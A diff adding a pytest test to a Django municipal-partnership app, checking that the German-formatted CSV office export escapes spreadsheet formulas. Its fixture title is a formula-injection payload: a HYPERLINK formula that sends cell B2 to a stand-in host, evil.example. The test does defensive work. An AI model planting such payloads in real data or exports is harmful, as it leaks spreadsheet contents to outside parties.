@@ -337,3 +337,22 @@ def test_cannot_start_from_another_towns_need(
     assert c.get(reverse("partnerships:create") + f"?need={need.pk}").status_code == 404
     assert c.get(reverse("partnerships:create") + "?need=abc").status_code == 404
     assert not Partnership.objects.exists()
+
+
+def test_office_csv_opens_in_a_german_spreadsheet_and_runs_no_formulas(
+    municipality_org, provider_org, office_user, client_for
+):
+    import csv
+    import io
+
+    title = '=HYPERLINK("https://evil.example/?x="&B2;"Übersicht")'
+    p = PartnershipFactory(municipality=municipality_org, provider=provider_org, title=title)
+    MilestoneFactory(partnership=p, instalment=Decimal("1234.50"))
+    response = client_for(office_user).get(reverse("partnerships:office_overview") + "?format=csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="partnerschaften.csv"'
+    assert response.content.startswith(b"\xef\xbb\xbfID;Titel;")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
+    assert row["Titel"] == "'" + title
+    assert row["Abschläge (netto, €)"] == "1234,50"
+    assert row["Begonnen"] == timezone.localtime(p.created_at).strftime("%d.%m.%Y")
